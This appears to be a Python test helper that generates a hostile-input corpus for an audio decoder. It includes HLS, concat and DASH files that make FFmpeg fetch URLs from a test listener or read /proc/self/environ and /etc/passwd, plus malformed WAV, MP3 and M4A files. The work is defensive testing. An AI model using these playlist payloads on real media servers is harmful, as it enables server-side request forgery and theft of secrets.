"""Writes the hostile-input corpus next to this file (run once; the files are committed):

    python -m tests.hostile.make_corpus

Text files hold ``@LISTENER@``, replaced at test time by the address of an HTTP listener the
test runs, so a decoder that follows a URL is caught. Each file is described in README.md."""

from __future__ import annotations

import io
import struct
from pathlib import Path
from typing import cast

import av
import numpy as np

HERE = Path(__file__).parent
RATE = 16_000


def _tone(seconds: float) -> np.ndarray:
    t = np.arange(int(seconds * RATE)) / RATE
    return (0.3 * np.sin(2 * np.pi * 220 * t) * 32767).astype(np.int16)


def _encode(fmt: str, codec: str, samples: np.ndarray, **options: str) -> bytes:
    buf = io.BytesIO()
    with av.open(buf, mode="w", format=fmt, options=options) as container:
        stream = cast(av.AudioStream, container.add_stream(codec, rate=RATE, layout="mono"))
        frame = av.AudioFrame.from_ndarray(samples.reshape(1, -1), format="s16", layout="mono")
        frame.sample_rate = RATE
        for packet in stream.encode(frame):
            container.mux(packet)
        for packet in stream.encode(None):
            container.mux(packet)
    return buf.getvalue()


def _wav(samples: np.ndarray, *, data_size: int | None = None, channels: int = 1, extra: bytes = b"") -> bytes:
    """A WAV whose header may lie: ``data_size`` is what the data chunk claims."""
    data = samples.tobytes()
    claimed = len(data) if data_size is None else data_size
    fmt = struct.pack("<HHIIHH", 1, channels, RATE, min(0xFFFFFFFF, RATE * 2 * channels), min(0xFFFF, 2 * channels), 16)
    body = b"WAVE" + b"fmt " + struct.pack("<I", len(fmt)) + fmt + extra + b"data" + struct.pack("<I", claimed) + data
    return b"RIFF" + struct.pack("<I", min(0xFFFFFFFF, len(body) + max(0, claimed - len(data)))) + body


def _moov_past_eof() -> bytes:
    """An M4A cut short the way a crashed recorder leaves it: the moov atom is whole, but every
    chunk offset in it points past the end of the file (the media data is gone)."""
    data = _encode("mp4", "aac", _tone(2.0))
    ftyp_end = struct.unpack(">I", data[:4])[0]
    moov_at = data.index(b"moov") - 4
    moov = bytearray(data[moov_at:])
    stco = moov.index(b"stco") + 4
    (count,) = struct.unpack(">I", moov[stco + 4 : stco + 8])
    for n in range(count):
        at = stco + 8 + 4 * n
        moov[at : at + 4] = struct.pack(">I", struct.unpack(">I", moov[at : at + 4])[0] + 0x10000000)
    return data[:ftyp_end] + bytes(moov)


TEXT = {
    # An HLS playlist whose segment is an HTTP URL: FFmpeg fetched it when the upload's name ended
    # in .m3u8.
    "hls_http.m3u8": "#EXTM3U\n#EXT-X-TARGETDURATION:10\n#EXTINF:10,\n@LISTENER@/segment.wav\n#EXT-X-ENDLIST\n",
    # Segments that read the server's own files: the environment (secrets) and a concat/subfile
    # chain ending in the listener.
    "hls_file.m3u8": (
        "#EXTM3U\n#EXT-X-TARGETDURATION:10\n#EXTINF:10,\nfile:///proc/self/environ\n"
        "#EXTINF:10,\nconcat:file:///etc/passwd|@LISTENER@/concat\n"
        "#EXTINF:10,\nsubfile,,start,0,end,0,,:/proc/self/environ\n#EXT-X-ENDLIST\n"
    ),
    # A live playlist (no end tag): would keep a decoding thread polling forever.
    "hls_live.m3u8": "#EXTM3U\n#EXT-X-TARGETDURATION:2\n#EXT-X-MEDIA-SEQUENCE:1\n#EXTINF:2,\n@LISTENER@/live.ts\n",
    # FFmpeg's concat demuxer script.
    "list.ffconcat": "ffconcat version 1.0\nfile '@LISTENER@/a.wav'\nfile '/proc/self/environ'\n",
    # A plain concat list as ffmpeg's -f concat takes it.
    "concat.txt": "file '@LISTENER@/b.wav'\nfile '/etc/passwd'\n",
    # An SDP description: FFmpeg would open RTP sockets.
    "stream.sdp": "v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\nm=audio 5004 RTP/AVP 0\na=rtpmap:0 PCMU/8000\n",
    # A DASH manifest with a remote base URL.
    "manifest.mpd": (
        '<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" '
        'mediaPresentationDuration="PT10S"><BaseURL>@LISTENER@/</BaseURL><Period><AdaptationSet>'
        '<Representation id="a" bandwidth="64000" mimeType="audio/mp4"><BaseURL>seg.m4a</BaseURL>'
        "</Representation></AdaptationSet></Period></MPD>\n"
    ),
}


def binary() -> dict[str, bytes]:
    mp3 = _encode("mp3", "libmp3lame", _tone(3.0))
    return {
        # A header chunk claiming 4 GB before the data.
        "huge_header.wav": _wav(_tone(1.0), extra=b"LIST" + struct.pack("<I", 0xFFFFFFF0) + b"INFO"),
        # A header claiming 65535 channels.
        "many_channels.wav": _wav(_tone(1.0), channels=65535),
        # A data chunk claiming ten hours (1.15 GB) that holds one second.
        "claims_10h.wav": _wav(_tone(1.0), data_size=10 * 3600 * RATE * 2),
        # The first frame of an MP3 cut in half.
        "truncated.mp3": mp3[:200],
        "moov_past_eof.m4a": _moov_past_eof(),
        # Not audio at all, named as if it were: a PNG header and noise.
        "not_audio.mp3": b"\x89PNG\r\n\x1a\n" + np.random.default_rng(0).bytes(4000),
        "empty.wav": b"",
        # Real audio, too short to hold speech.
        "short_0.2s.wav": _wav(_tone(0.2)),
    }


def main() -> None:
    for name, text in TEXT.items():
        (HERE / name).write_text(text)
    for name, data in binary().items():
        (HERE / name).write_bytes(data)


if __name__ == "__main__":
    main()
